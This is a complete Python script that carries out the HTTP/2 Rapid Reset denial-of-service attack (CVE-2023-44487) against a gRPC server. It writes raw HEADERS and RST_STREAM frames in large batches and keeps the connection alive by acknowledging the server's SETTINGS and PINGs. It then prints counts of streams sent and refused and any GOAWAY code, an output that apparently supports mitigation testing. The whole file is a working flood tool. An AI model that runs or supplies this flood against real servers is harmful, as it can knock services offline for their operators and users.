"""HTTP/2 rapid reset (CVE-2023-44487) against a gRPC server: on one connection, opens a
stream with HEADERS and cancels it with RST_STREAM at once, as fast as it can, for a while.

h2 makes the connection (preface, SETTINGS) and the HPACK header block; the flood itself is
written as raw frames in large batches, since h2's per-stream bookkeeping would make Python,
not the server, the bottleneck. The server's SETTINGS and PINGs are acknowledged throughout.

Usage: rapid_reset.py HOST PORT SECONDS
Prints "FLOOD streams=<n> refused=<n> seconds=<s> goaway=<error code or none>" when done,
refused being the streams the server answered with RST_STREAM(REFUSED_STREAM).
"""

import select
import struct
import sys
import time

import hpack

from raw_h2 import ACK, END_HEADERS, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS, connect, frame

REFUSED_STREAM, CANCEL = 0x7, 0x8
BATCH = 500

host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])


sock, conn = connect(host, port)

headers = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/Greeter/say_hello"),
    (":authority", f"{host}:{port}"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
# Never-indexed literals add nothing to the dynamic table, so one block serves every stream.
block = hpack.Encoder().encode([(k, v, True) for k, v in headers], huffman=True)

pending = b""
goaway = None
refused = 0


def read_server_frames():
    """Acknowledges SETTINGS and PINGs, counts refused streams; returns a GOAWAY's error
    code, or None."""
    global pending, refused
    while select.select([sock], [], [], 0)[0]:
        data = sock.recv(1 << 16)
        if not data:
            return "closed"
        pending += data
        while len(pending) >= 9:
            length = int.from_bytes(pending[:3], "big")
            if len(pending) < 9 + length:
                break
            kind, flags = pending[3], pending[4]
            payload = pending[9 : 9 + length]
            pending = pending[9 + length :]
            if kind == SETTINGS and not flags & ACK:
                sock.sendall(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                sock.sendall(frame(PING, ACK, 0, payload))
            elif kind == RST_STREAM and int.from_bytes(payload[:4], "big") == REFUSED_STREAM:
                refused += 1
            elif kind == GOAWAY:
                return str(int.from_bytes(payload[4:8], "big"))
    return None


stream = 1
sent = 0
started = time.monotonic()
try:
    while goaway is None and time.monotonic() - started < seconds:
        batch = []
        for _ in range(BATCH):
            batch.append(frame(HEADERS, END_HEADERS, stream, block))
            batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
            stream += 2
        sock.sendall(b"".join(batch))
        sent += BATCH
        goaway = read_server_frames()
except OSError as e:
    goaway = type(e).__name__
elapsed = time.monotonic() - started
print(f"FLOOD streams={sent} refused={refused} seconds={elapsed:.1f} goaway={goaway or 'none'}", flush=True)
